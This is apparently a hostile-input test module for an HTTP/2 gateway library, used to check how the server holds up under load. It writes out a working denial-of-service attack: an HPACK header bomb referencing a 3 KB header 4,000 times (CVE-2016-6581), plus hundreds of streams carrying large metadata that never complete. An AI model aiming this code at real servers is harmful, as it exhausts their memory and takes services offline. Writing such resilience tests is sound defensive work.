"""Metadata that are small on the wire and huge in memory, on calls that never go on."""

from __future__ import annotations

from random import Random

from counterflow.wire.http2 import codes
from counterflow.wire.http2.outgoing import frame
from counterflow_wire import gateway
from tests.hostile.attack import Attack
from tests.hostile.raw import RawConnection
from tests.hostile.target import Target

PATH = gateway.METHODS["Topology"].path
VALUE = "v" * 3_000
REFERENCES = 4_000
STREAMS = 200
AT_ONCE = 5


async def run(target: Target, dose: int) -> None:
    """Send `dose` headers that are three kilobytes once and are meant four thousand times (CVE-2016-6581); then
    `dose` connections each begin calls of eight kilobytes of metadata and say no more.
    """
    await target.flood(dose, AT_ONCE, _bomb)
    for number in range(dose):
        client = await target.raw()
        for stream in range(STREAMS):
            text = Random(number * STREAMS + stream).randbytes(4_000).hex()
            if not await client.write(client.head(2 * stream + 1, PATH, ("x", text))):
                break
        await client.settle(5)


def _bomb(client: RawConnection, number: int) -> bytes:
    head = client.head(4 * number + 1, PATH, ("large", VALUE))
    newest = client.encoded(("large", VALUE))
    return head + frame(codes.HEADERS, codes.END_HEADERS, 4 * number + 3, newest * REFERENCES)


ATTACK = Attack("metadata that are meant 4,000 times; 200 calls of 8 KB that say no more", run, seen=20)
